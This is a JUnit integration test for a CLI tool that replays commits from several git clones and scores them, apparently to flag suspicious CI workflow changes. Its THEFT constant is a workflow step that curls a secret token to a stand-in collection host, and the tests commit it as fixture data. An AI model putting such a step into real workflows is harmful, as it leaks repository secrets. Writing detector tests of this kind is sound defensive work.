package dev.pubwatch.cli.git;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.pubwatch.cli.Script;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Clones of an owner's repositories, replayed from the command line. */
class GitReplayIT {
  private static final String THEFT =
      "run: curl -d 'k=${{ secrets.TOKEN }}' https://collect.example.net\n";

  @TempDir private Path folder = Path.of("");

  @Test
  void commitsOfSeveralClonesAreOneHistory() throws Exception {
    List<String> ids = new ArrayList<>();
    List<String> arguments = new ArrayList<>(List.of("replay", "--format=git"));
    for (int i = 0; i < 2; i++) {
      TestRepository repo = TestRepository.at(folder.resolve("clone" + i));
      String name = "git.example.org/owner" + i + "/tool";
      repo.remote("https://" + name + ".git");
      for (String file : List.of("README", ".github/workflows/ci.yml", ".github/workflows/x.yml")) {
        ids.add("git:" + name + "@" + repo.commit("dev@example.org", Map.of(file, THEFT)));
      }
      arguments.add(repo.folder().toString());
    }
    Path scores = folder.resolve("scores.jsonl");
    arguments.add("--scores=" + scores);
    Script.Result result = new Script(folder).run(arguments.toArray(new String[0]));
    assertEquals(0, result.exitCode(), result.err());
    List<String> lines = Files.readAllLines(scores);
    assertEquals(6, lines.size(), result.err());
    for (String id : ids) {
      assertEquals(1, lines.stream().filter(line -> line.contains(id)).count(), id);
    }
  }

  @Test
  void whatIsNoCloneIsRefusedInASentence() throws Exception {
    Files.createDirectory(folder.resolve("plain"));
    Script.Result result = new Script(folder).run("replay", "--input=git:plain");
    assertEquals(1, result.exitCode());
    assertTrue(result.err().contains("cannot read plain: not a git repository"), result.err());
    Script.Result none = new Script(folder).run("replay", "--input=git:gone");
    assertTrue(none.err().contains("no such file or folder: gone"), none.err());
    Script.Result stdin = new Script(folder).run("replay", "--format=git", "-");
    assertEquals(2, stdin.exitCode(), stdin.err());
  }
}
